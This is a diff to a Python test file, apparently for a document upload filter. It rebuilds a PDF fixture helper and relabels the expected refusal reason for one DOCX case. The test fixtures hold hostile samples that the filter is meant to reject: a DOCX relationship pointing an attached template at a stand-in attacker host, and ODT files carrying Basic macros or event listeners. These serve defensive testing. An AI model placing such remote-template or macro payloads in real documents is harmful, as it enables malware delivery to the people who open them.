@@ -34,11 +34,22 @@ ENSCHEDE = "coordinator@enschede.example"
 
 # --- building files --------------------------------------------------------------------------
 
-PDF = (
-    b"%PDF-1.4\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n"
-    b"2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\n"
-    b"trailer\n<< /Root 1 0 R >>\n%%EOF\n"
-)
+def pdf_bytes(*objecten):
+    """A small valid PDF (objects 1, 2, ... with a cross-reference table), as a PDF parser must be able to read it."""
+    uit = bytearray(b"%PDF-1.4\n")
+    posities = []
+    for nummer, obj in enumerate(objecten, start=1):
+        posities.append(len(uit))
+        uit += b"%d 0 obj\n" % nummer + obj + b"\nendobj\n"
+    xref = len(uit)
+    uit += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objecten) + 1)
+    uit += b"".join(b"%010d 00000 n \n" % positie for positie in posities)
+    uit += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objecten) + 1, xref)
+    return bytes(uit)
+
+
+PDF = pdf_bytes(b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+                b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>")
 
 
 def png(size=(8, 6), mode="RGB", **save):
@@ -214,7 +225,7 @@ REFUSED = [
                                                'openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
                                                'Target="https://aanvaller.example/s.dotm" TargetMode="External"/>'
                                                "</Relationships>")]),
-                 "application/octet-stream", M.MACRO, {}, id="docx-remote-template"),
+                 "application/octet-stream", M.EXTERN, {}, id="docx-remote-template"),
     pytest.param("basic.odt", odt(extra=[("Basic/Standard/Module1.xml", "<script:module/>")]),
                  "application/vnd.oasis.opendocument.text", M.MACRO, {}, id="odt-with-basic-macro"),
     pytest.param("event.odt", odt(extra=[("styles.xml", '<office:document-styles><script:event-listener '
